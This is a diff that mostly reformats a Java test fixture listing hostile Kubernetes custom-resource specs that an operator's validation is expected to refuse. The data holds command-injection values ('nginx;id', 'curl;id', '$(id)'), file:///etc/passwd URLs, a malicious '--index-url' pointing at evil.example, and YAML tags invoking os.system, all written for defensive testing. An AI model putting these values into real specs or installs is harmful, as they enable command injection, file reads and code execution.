@@ -6,9 +6,10 @@ import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 
 /**
- * Hostile objects as a table, one apply each: names no derived object could take, durations and quantities out of
- * bounds, inputs that would mean something else (YAML tags, file: URLs), and pod settings the API server refuses in
- * the children. Each row says who refuses it and which field the refusal names.
+ * Hostile objects as a table, one apply each: names no derived object could take, durations and
+ * quantities out of bounds, inputs that would mean something else (YAML tags, file: URLs), and pod
+ * settings the API server refuses in the children. Each row says who refuses it and which field the
+ * refusal names.
  */
 final class HostileInputs {
 
@@ -19,8 +20,8 @@ final class HostileInputs {
         /** The operator: the Environment becomes Invalid with reason InvalidSpec. */
         OPERATOR,
         /**
-         * The API server, when the operator writes a child (a Deployment, a Job): the object shows Ready=False with
-         * reason ReconcileError and the server's message.
+         * The API server, when the operator writes a child (a Deployment, a Job): the object shows
+         * Ready=False with reason ReconcileError and the server's message.
          */
         RECONCILE
     }
@@ -35,11 +36,17 @@ final class HostileInputs {
      * @param field what the refusal's message must contain: the field, as the refuser names it
      * @param spec the spec, as YAML in flow style
      */
-    record Case(String id, String kind, String name, RefusedBy refusedBy, String field, String spec) {
+    record Case(
+            String id, String kind, String name, RefusedBy refusedBy, String field, String spec) {
 
         String manifest() {
-            return "apiVersion: terrarium.dev/v1alpha1\nkind: " + kind + "\nmetadata:\n  name: \"" + name + "\"\nspec: "
-                    + spec + "\n";
+            return "apiVersion: terrarium.dev/v1alpha1\nkind: "
+                    + kind
+                    + "\nmetadata:\n  name: \""
+                    + name
+                    + "\"\nspec: "
+                    + spec
+                    + "\n";
         }
     }
 
@@ -47,16 +54,24 @@ final class HostileInputs {
     private static final String IMAGE = "image: nginx:1.27";
     private static final String SHA = "0123456789abcdef".repeat(4);
 
-    private HostileInputs() {
-    }
+    private HostileInputs() {}
 
     static List<Case> all() {
         List<Case> cases = new ArrayList<>();
         names(cases);
         timeouts(cases);
-        resources(cases, "Environment", "env", "spec.build.resources", res -> "{" + PIP + ", build: {resources: "
-                + res + "}}");
-        resources(cases, "Workload", "wl", "spec.resources", res -> "{" + IMAGE + ", resources: " + res + "}");
+        resources(
+                cases,
+                "Environment",
+                "env",
+                "spec.build.resources",
+                res -> "{" + PIP + ", build: {resources: " + res + "}}");
+        resources(
+                cases,
+                "Workload",
+                "wl",
+                "spec.resources",
+                res -> "{" + IMAGE + ", resources: " + res + "}");
         ports(cases);
         workloadFields(cases);
         environmentFields(cases);
@@ -65,7 +80,8 @@ final class HostileInputs {
         return List.copyOf(cases);
     }
 
-    private static void api(List<Case> cases, String id, String kind, String name, String field, String spec) {
+    private static void api(
+            List<Case> cases, String id, String kind, String name, String field, String spec) {
         cases.add(new Case(id, kind, name, RefusedBy.APISERVER, field, spec));
     }
 
@@ -83,48 +99,91 @@ final class HostileInputs {
 
     private static void names(List<Case> cases) {
         for (int length : new int[] {64, 100, 250, 253}) {
-            api(cases, "env-name-" + length, "Environment", "e".repeat(length), "metadata.name", "{" + PIP + "}");
-            api(cases, "wl-name-" + length, "Workload", "w".repeat(length), "metadata.name", "{" + IMAGE + "}");
+            api(
+                    cases,
+                    "env-name-" + length,
+                    "Environment",
+                    "e".repeat(length),
+                    "metadata.name",
+                    "{" + PIP + "}");
+            api(
+                    cases,
+                    "wl-name-" + length,
+                    "Workload",
+                    "w".repeat(length),
+                    "metadata.name",
+                    "{" + IMAGE + "}");
         }
-        api(cases, "env-name-dotted-70", "Environment", "a".repeat(30) + "." + "b".repeat(39), "metadata.name",
+        api(
+                cases,
+                "env-name-dotted-70",
+                "Environment",
+                "a".repeat(30) + "." + "b".repeat(39),
+                "metadata.name",
                 "{" + PIP + "}");
         for (String name : new String[] {"1web", "9-lives", "web.api", "0", "a.b.c"}) {
-            api(cases, "wl-service-name-" + name.replace('.', '-'), "Workload", name, "metadata.name",
+            api(
+                    cases,
+                    "wl-service-name-" + name.replace('.', '-'),
+                    "Workload",
+                    name,
+                    "metadata.name",
                     "{" + IMAGE + ", ports: [{name: http, containerPort: 80}]}");
         }
-        api(cases, "ib-name-53", "ImageBuild", "i".repeat(53), "metadata.name", "{environment: ds, specHash: " + SHA
-                + ", repository: registry.test/envs, resolved: {manager: venv, python: \"3.12\", baseImage: "
-                + "\"python:3.12-slim\"}, build: {}}");
+        api(
+                cases,
+                "ib-name-53",
+                "ImageBuild",
+                "i".repeat(53),
+                "metadata.name",
+                "{environment: ds, specHash: "
+                        + SHA
+                        + ", repository: registry.test/envs, resolved: {manager: venv, python: \"3.12\", baseImage: "
+                        + "\"python:3.12-slim\"}, build: {}}");
     }
 
     private static void timeouts(List<Case> cases) {
-        String[] tooLong = {"25h", "24h1s", "1441m", "86401s", "99999h", "999999h", "9999999h", "100000000s"};
+        String[] tooLong = {
+            "25h", "24h1s", "1441m", "86401s", "99999h", "999999h", "9999999h", "100000000s"
+        };
         String[] notPositive = {"0s", "0h0m0s", "0m"};
-        String[] malformed = {"1d", "-1h", "1.5h", "30", "1m30h", "h", "1h 30m", "PT1H", "1H", "30min"};
+        String[] malformed = {
+            "1d", "-1h", "1.5h", "30", "1m30h", "h", "1h 30m", "PT1H", "1H", "30min"
+        };
         int index = 0;
         for (String[] group : new String[][] {tooLong, notPositive, malformed}) {
             for (String timeout : group) {
-                env(cases, "timeout-" + index++ + "-" + slug(timeout), "spec.build.timeout", "{" + PIP
-                        + ", build: {timeout: \"" + timeout + "\"}}");
+                env(
+                        cases,
+                        "timeout-" + index++ + "-" + slug(timeout),
+                        "spec.build.timeout",
+                        "{" + PIP + ", build: {timeout: \"" + timeout + "\"}}");
             }
         }
     }
 
-    private static void resources(List<Case> cases, String kind, String prefix, String field,
+    private static void resources(
+            List<Case> cases,
+            String kind,
+            String prefix,
+            String field,
             java.util.function.Function<String, String> spec) {
         String[][] refused = {
-                {"cpu-negative", "{requests: {cpu: \"-1\"}}"},
-                {"cpu-zero", "{requests: {cpu: \"0\"}}"},
-                {"cpu-negative-milli", "{limits: {cpu: \"-500m\"}}"},
-                {"cpu-int-negative", "{requests: {cpu: -2}}"},
-                {"memory-zero-gi", "{limits: {memory: \"0Gi\"}}"},
-                {"memory-negative", "{requests: {memory: \"-1Gi\"}}"},
-                {"memory-words", "{requests: {memory: \"lots\"}}"},
-                {"memory-bad-suffix", "{limits: {memory: \"1Zi\"}}"},
-                {"memory-empty", "{limits: {memory: \"\"}}"},
-                {"unknown-resource", "{requests: {gpu: \"1\"}}"},
-                {"request-above-limit", "{requests: {cpu: \"2\"}, limits: {cpu: \"1\"}}"},
-                {"memory-request-above-limit", "{requests: {memory: \"2Gi\"}, limits: {memory: \"1Gi\"}}"},
+            {"cpu-negative", "{requests: {cpu: \"-1\"}}"},
+            {"cpu-zero", "{requests: {cpu: \"0\"}}"},
+            {"cpu-negative-milli", "{limits: {cpu: \"-500m\"}}"},
+            {"cpu-int-negative", "{requests: {cpu: -2}}"},
+            {"memory-zero-gi", "{limits: {memory: \"0Gi\"}}"},
+            {"memory-negative", "{requests: {memory: \"-1Gi\"}}"},
+            {"memory-words", "{requests: {memory: \"lots\"}}"},
+            {"memory-bad-suffix", "{limits: {memory: \"1Zi\"}}"},
+            {"memory-empty", "{limits: {memory: \"\"}}"},
+            {"unknown-resource", "{requests: {gpu: \"1\"}}"},
+            {"request-above-limit", "{requests: {cpu: \"2\"}, limits: {cpu: \"1\"}}"},
+            {
+                "memory-request-above-limit",
+                "{requests: {memory: \"2Gi\"}, limits: {memory: \"1Gi\"}}"
+            },
         };
         for (String[] row : refused) {
             String id = prefix + "-resources-" + row[0];
@@ -134,17 +193,37 @@ final class HostileInputs {
 
     private static void ports(List<Case> cases) {
         String[][] refused = {
-                {"port-name-digits", "spec.ports[0].name", "[{name: \"80\", containerPort: 80}]"},
-                {"port-name-double-dash", "spec.ports[0].name", "[{name: web--api, containerPort: 80}]"},
-                {"port-name-upper", "spec.ports[0].name", "[{name: Web, containerPort: 80}]"},
-                {"port-name-too-long", "spec.ports[0].name", "[{name: abcdefghijklmnop, containerPort: 80}]"},
-                {"port-name-empty", "spec.ports[0].name", "[{name: \"\", containerPort: 80}]"},
-                {"port-zero", "spec.ports[0].containerPort", "[{name: http, containerPort: 0}]"},
-                {"port-too-high", "spec.ports[0].containerPort", "[{name: http, containerPort: 65536}]"},
-                {"service-port-too-high", "spec.ports[0].port", "[{name: http, containerPort: 80, port: 70000}]"},
-                {"protocol-http", "spec.ports[0].protocol", "[{name: http, containerPort: 80, protocol: HTTP}]"},
-                {"port-without-number", "spec.ports[0].containerPort", "[{name: http}]"},
-                {"port-without-name", "spec.ports[0].name", "[{containerPort: 80}]"},
+            {"port-name-digits", "spec.ports[0].name", "[{name: \"80\", containerPort: 80}]"},
+            {
+                "port-name-double-dash",
+                "spec.ports[0].name",
+                "[{name: web--api, containerPort: 80}]"
+            },
+            {"port-name-upper", "spec.ports[0].name", "[{name: Web, containerPort: 80}]"},
+            {
+                "port-name-too-long",
+                "spec.ports[0].name",
+                "[{name: abcdefghijklmnop, containerPort: 80}]"
+            },
+            {"port-name-empty", "spec.ports[0].name", "[{name: \"\", containerPort: 80}]"},
+            {"port-zero", "spec.ports[0].containerPort", "[{name: http, containerPort: 0}]"},
+            {
+                "port-too-high",
+                "spec.ports[0].containerPort",
+                "[{name: http, containerPort: 65536}]"
+            },
+            {
+                "service-port-too-high",
+                "spec.ports[0].port",
+                "[{name: http, containerPort: 80, port: 70000}]"
+            },
+            {
+                "protocol-http",
+                "spec.ports[0].protocol",
+                "[{name: http, containerPort: 80, protocol: HTTP}]"
+            },
+            {"port-without-number", "spec.ports[0].containerPort", "[{name: http}]"},
+            {"port-without-name", "spec.ports[0].name", "[{containerPort: 80}]"},
         };
         for (String[] row : refused) {
             wl(cases, "wl-" + row[0], row[1], "{" + IMAGE + ", ports: " + row[2] + "}");
@@ -153,18 +232,32 @@ final class HostileInputs {
 
     private static void workloadFields(List<Case> cases) {
         wl(cases, "wl-replicas-too-many", "spec.replicas", "{" + IMAGE + ", replicas: 1001}");
-        wl(cases, "wl-backoff-too-high", "spec.backoffLimit", "{" + IMAGE + ", mode: Job, backoffLimit: 101}");
-        wl(cases, "wl-backoff-negative", "spec.backoffLimit", "{" + IMAGE + ", mode: Job, backoffLimit: -1}");
+        wl(
+                cases,
+                "wl-backoff-too-high",
+                "spec.backoffLimit",
+                "{" + IMAGE + ", mode: Job, backoffLimit: 101}");
+        wl(
+                cases,
+                "wl-backoff-negative",
+                "spec.backoffLimit",
+                "{" + IMAGE + ", mode: Job, backoffLimit: -1}");
         wl(cases, "wl-working-dir-empty", "spec.workingDir", "{" + IMAGE + ", workingDir: \"\"}");
         wl(cases, "wl-image-upper-case", "spec.image", "{image: \"Nginx/Web:1\"}");
         wl(cases, "wl-image-short-digest", "spec.image", "{image: \"nginx@sha256:abc\"}");
         wl(cases, "wl-image-shell", "spec.image", "{image: \"nginx;id\"}");
         wl(cases, "wl-environment-upper", "spec.environment", "{environment: Data_Science}");
-        wl(cases, "wl-service-account-upper", "spec.serviceAccountName", "{" + IMAGE
-                + ", serviceAccountName: Default}");
+        wl(
+                cases,
+                "wl-service-account-upper",
+                "spec.serviceAccountName",
+                "{" + IMAGE + ", serviceAccountName: Default}");
         wl(cases, "wl-mode-cron", "spec.mode", "{" + IMAGE + ", mode: Cron}");
-        wl(cases, "wl-node-selector-too-many", "spec.nodeSelector", "{" + IMAGE + ", nodeSelector: "
-                + manyPairs(33) + "}");
+        wl(
+                cases,
+                "wl-node-selector-too-many",
+                "spec.nodeSelector",
+                "{" + IMAGE + ", nodeSelector: " + manyPairs(33) + "}");
         wl(cases, "wl-replicas-string", "spec.replicas", "{" + IMAGE + ", replicas: \"two\"}");
         wl(cases, "wl-suspend-string", "spec.suspend", "{" + IMAGE + ", suspend: \"yes\"}");
         wl(cases, "wl-command-not-list", "spec.command", "{" + IMAGE + ", command: \"sh -c id\"}");
@@ -176,94 +269,192 @@ final class HostileInputs {
         env(cases, "python-four-parts", "spec.python", "{" + PIP + ", python: \"3.12.1.1\"}");
         env(cases, "python-prefixed", "spec.python", "{" + PIP + ", python: \"python3.12\"}");
         env(cases, "manager-pip", "spec.manager", "{" + PIP + ", manager: pip}");
-        env(cases, "channel-upper", "spec.channels[0]", "{packages: [numpy], channels: [Conda-Forge]}");
-        env(cases, "channel-file-url", "spec.channels[0]", "{packages: [numpy], channels: [\"file:///srv/chan\"]}");
-        env(cases, "channel-web-url", "spec.channels[0]", "{packages: [numpy], channels: "
-                + "[\"https://repo.example/conda\"]}");
-        env(cases, "channel-traversal", "spec.channels[0]", "{packages: [numpy], channels: [\"../../etc\"]}");
+        env(
+                cases,
+                "channel-upper",
+                "spec.channels[0]",
+                "{packages: [numpy], channels: [Conda-Forge]}");
+        env(
+                cases,
+                "channel-file-url",
+                "spec.channels[0]",
+                "{packages: [numpy], channels: [\"file:///srv/chan\"]}");
+        env(
+                cases,
+                "channel-web-url",
+                "spec.channels[0]",
+                "{packages: [numpy], channels: " + "[\"https://repo.example/conda\"]}");
+        env(
+                cases,
+                "channel-traversal",
+                "spec.channels[0]",
+                "{packages: [numpy], channels: [\"../../etc\"]}");
         env(cases, "system-space", "spec.system[0]", "{" + PIP + ", system: [\"curl wget\"]}");
         env(cases, "system-semicolon", "spec.system[0]", "{" + PIP + ", system: [\"curl;id\"]}");
         env(cases, "system-option", "spec.system[0]", "{" + PIP + ", system: [\"-y\"]}");
         env(cases, "pip-item-too-long", "spec.pip[0]", "{pip: [\"" + "p".repeat(513) + "\"]}");
-        env(cases, "base-image-too-long", "spec.baseImage", "{" + PIP + ", baseImage: \"" + "b".repeat(513)
-                + "\"}");
-        env(cases, "build-node-selector-too-many", "spec.build.nodeSelector", "{" + PIP
-                + ", build: {nodeSelector: " + manyPairs(33) + "}}");
-        env(cases, "build-strategy-docker", "spec.build.strategy", "{" + PIP + ", build: {strategy: docker}}");
+        env(
+                cases,
+                "base-image-too-long",
+                "spec.baseImage",
+                "{" + PIP + ", baseImage: \"" + "b".repeat(513) + "\"}");
+        env(
+                cases,
+                "build-node-selector-too-many",
+                "spec.build.nodeSelector",
+                "{" + PIP + ", build: {nodeSelector: " + manyPairs(33) + "}}");
+        env(
+                cases,
+                "build-strategy-docker",
+                "spec.build.strategy",
+                "{" + PIP + ", build: {strategy: docker}}");
         env(cases, "pip-not-a-list", "spec.pip", "{pip: requests}");
     }
 
-    /** Inputs that parse, but would mean something other than what they seem: the operator refuses them. */
+    /**
+     * Inputs that parse, but would mean something other than what they seem: the operator refuses
+     * them.
+     */
     private static void meanings(List<Case> cases) {
         String[][] pip = {
-                {"pip-file-url", "pkg @ file:///etc/passwd"},
-                {"pip-file-url-upper", "pkg @ FILE:///etc/passwd"},
-                {"pip-file-url-relative", "pkg @ file:etc/passwd"},
-                {"pip-git-file-url", "pkg @ git+file:///srv/repo"},
-                {"pip-ftp-url", "pkg @ ftp://files.example/pkg.whl"},
-                {"pip-credentials-url", "pkg @ https://user:secret@files.example/pkg.whl"},
-                {"pip-url-substitution", "pkg @ https://files.example/$(id).whl"},
-                {"pip-index-option", "--index-url https://evil.example/simple"},
-                {"pip-editable", "-e ./src"},
-                {"pip-local-path", "./pkg.whl"},
+            {"pip-file-url", "pkg @ file:///etc/passwd"},
+            {"pip-file-url-upper", "pkg @ FILE:///etc/passwd"},
+            {"pip-file-url-relative", "pkg @ file:etc/passwd"},
+            {"pip-git-file-url", "pkg @ git+file:///srv/repo"},
+            {"pip-ftp-url", "pkg @ ftp://files.example/pkg.whl"},
+            {"pip-credentials-url", "pkg @ https://user:secret@files.example/pkg.whl"},
+            {"pip-url-substitution", "pkg @ https://files.example/$(id).whl"},
+            {"pip-index-option", "--index-url https://evil.example/simple"},
+            {"pip-editable", "-e ./src"},
+            {"pip-local-path", "./pkg.whl"},
         };
         for (String[] row : pip) {
             operator(cases, row[0], "spec.pip[0]", "{pip: [\"" + row[1] + "\"]}");
         }
-        operator(cases, "requirements-file-url", "spec.files.requirementsTxt",
+        operator(
+                cases,
+                "requirements-file-url",
+                "spec.files.requirementsTxt",
                 "{files: {requirementsTxt: \"requests\\npkg @ file:///etc/passwd\\n\"}}");
-        operator(cases, "requirements-find-links", "spec.files.requirementsTxt",
+        operator(
+                cases,
+                "requirements-find-links",
+                "spec.files.requirementsTxt",
                 "{files: {requirementsTxt: \"--find-links file:///srv/wheels\\nrequests\\n\"}}");
-        operator(cases, "yml-pip-file-url", "spec.files.environmentYml",
+        operator(
+                cases,
+                "yml-pip-file-url",
+                "spec.files.environmentYml",
                 "{files: {environmentYml: \"dependencies:\\n  - pip:\\n    - pkg @ file:///etc/passwd\\n\"}}");
-        operator(cases, "yml-channel-file-url", "spec.files.environmentYml",
+        operator(
+                cases,
+                "yml-channel-file-url",
+                "spec.files.environmentYml",
                 "{files: {environmentYml: \"channels:\\n  - file:///srv/chan\\ndependencies: [numpy]\\n\"}}");
-        operator(cases, "yml-channel-web-url", "spec.files.environmentYml",
+        operator(
+                cases,
+                "yml-channel-web-url",
+                "spec.files.environmentYml",
                 "{files: {environmentYml: \"channels:\\n  - https://repo.example/conda\\ndependencies: [numpy]\\n\"}}");
         String[][] tags = {
-                {"yml-tag-python-apply", "dependencies: !!python/object/apply:os.system ['id']\\n", "line 1"},
-                {"yml-tag-python-name", "dependencies:\\n  - !!python/name:os.system numpy\\n", "line 2"},
-                {"yml-tag-python-object", "name: x\\ndependencies:\\n  - numpy\\n  - !!python/object:os.Popen {}\\n",
-                        "line 4"},
-                {"yml-tag-str", "dependencies:\\n  - !!str numpy\\n", "line 2"},
-                {"yml-tag-binary", "prefix: !!binary aGVsbG8=\\ndependencies: [numpy]\\n", "line 1"},
-                {"yml-tag-custom", "channels: !custom [conda-forge]\\ndependencies: [numpy]\\n", "line 1"},
-                {"yml-tag-set", "dependencies: !!set {numpy: null}\\n", "line 1"},
-                {"yml-tag-in-pip", "dependencies:\\n  - pip:\\n    - !!python/object/new:os.system [id]\\n",
-                        "line 3"},
+            {
+                "yml-tag-python-apply",
+                "dependencies: !!python/object/apply:os.system ['id']\\n",
+                "line 1"
+            },
+            {
+                "yml-tag-python-name",
+                "dependencies:\\n  - !!python/name:os.system numpy\\n",
+                "line 2"
+            },
+            {
+                "yml-tag-python-object",
+                "name: x\\ndependencies:\\n  - numpy\\n  - !!python/object:os.Popen {}\\n",
+                "line 4"
+            },
+            {"yml-tag-str", "dependencies:\\n  - !!str numpy\\n", "line 2"},
+            {"yml-tag-binary", "prefix: !!binary aGVsbG8=\\ndependencies: [numpy]\\n", "line 1"},
+            {
+                "yml-tag-custom",
+                "channels: !custom [conda-forge]\\ndependencies: [numpy]\\n",
+                "line 1"
+            },
+            {"yml-tag-set", "dependencies: !!set {numpy: null}\\n", "line 1"},
+            {
+                "yml-tag-in-pip",
+                "dependencies:\\n  - pip:\\n    - !!python/object/new:os.system [id]\\n",
+                "line 3"
+            },
         };
         for (String[] row : tags) {
-            cases.add(new Case(row[0], "Environment", "h-" + row[0], RefusedBy.OPERATOR,
-                    "spec.files.environmentYml: " + row[2], "{files: {environmentYml: \"" + row[1] + "\"}}"));
+            cases.add(
+                    new Case(
+                            row[0],
+                            "Environment",
+                            "h-" + row[0],
+                            RefusedBy.OPERATOR,
+                            "spec.files.environmentYml: " + row[2],
+                            "{files: {environmentYml: \"" + row[1] + "\"}}"));
         }
-        operator(cases, "python-huge-minor", "spec.python", "{" + PIP + ", python: \"3.99999999999\"}");
-        operator(cases, "conda-url-channel", "spec.packages[0]", "{packages: [\"file:///srv/chan::numpy\"]}");
+        operator(
+                cases,
+                "python-huge-minor",
+                "spec.python",
+                "{" + PIP + ", python: \"3.99999999999\"}");
+        operator(
+                cases,
+                "conda-url-channel",
+                "spec.packages[0]",
+                "{packages: [\"file:///srv/chan::numpy\"]}");
         operator(cases, "conda-shell", "spec.packages[0]", "{packages: [\"numpy;id\"]}");
     }
 
-    /** Settings the schema admits but the API server refuses in the Deployment the operator writes. */
+    /**
+     * Settings the schema admits but the API server refuses in the Deployment the operator writes.
+     */
     private static void children(List<Case> cases) {
         String[][] refused = {
-                {"toleration-operator", "tolerations[0].operator",
-                        "tolerations: [{key: gpu, operator: Bogus, effect: NoSchedule}]"},
-                {"node-selector-key", "nodeSelector", "nodeSelector: {\"bad key!\": x}"},
-                {"run-as-negative-user", "securityContext.runAsUser", "securityContext: {runAsUser: -1}"},
-                {"env-name-with-equals", "env[0].name", "env: [{name: \"A=B\", value: x}]"},
-                {"env-value-and-value-from", "env[0].valueFrom",
-                        "env: [{name: A, value: x, valueFrom: {fieldRef: {fieldPath: metadata.name}}}]"},
+            {
+                "toleration-operator",
+                "tolerations[0].operator",
+                "tolerations: [{key: gpu, operator: Bogus, effect: NoSchedule}]"
+            },
+            {"node-selector-key", "nodeSelector", "nodeSelector: {\"bad key!\": x}"},
+            {
+                "run-as-negative-user",
+                "securityContext.runAsUser",
+                "securityContext: {runAsUser: -1}"
+            },
+            {"env-name-with-equals", "env[0].name", "env: [{name: \"A=B\", value: x}]"},
+            {
+                "env-value-and-value-from",
+                "env[0].valueFrom",
+                "env: [{name: A, value: x, valueFrom: {fieldRef: {fieldPath: metadata.name}}}]"
+            },
         };
         for (String[] row : refused) {
-            cases.add(new Case("wl-child-" + row[0], "Workload", "h-wl-child-" + row[0], RefusedBy.RECONCILE, row[1],
-                    "{" + IMAGE + ", " + row[2] + "}"));
+            cases.add(
+                    new Case(
+                            "wl-child-" + row[0],
+                            "Workload",
+                            "h-wl-child-" + row[0],
+                            RefusedBy.RECONCILE,
+                            row[1],
+                            "{" + IMAGE + ", " + row[2] + "}"));
         }
     }
 
     private static String manyPairs(int count) {
-        return IntStream.range(0, count).mapToObj(i -> "k" + i + ": v").collect(Collectors.joining(", ", "{", "}"));
+        return IntStream.range(0, count)
+                .mapToObj(i -> "k" + i + ": v")
+                .collect(Collectors.joining(", ", "{", "}"));
     }
 
     private static String slug(String text) {
-        String slug = text.toLowerCase(java.util.Locale.ROOT).replaceAll("[^a-z0-9]+", "-").replaceAll("^-|-$", "");
+        String slug =
+                text.toLowerCase(java.util.Locale.ROOT)
+                        .replaceAll("[^a-z0-9]+", "-")
+                        .replaceAll("^-|-$", "");
         return slug.isEmpty() ? "x" : slug;
     }
 }
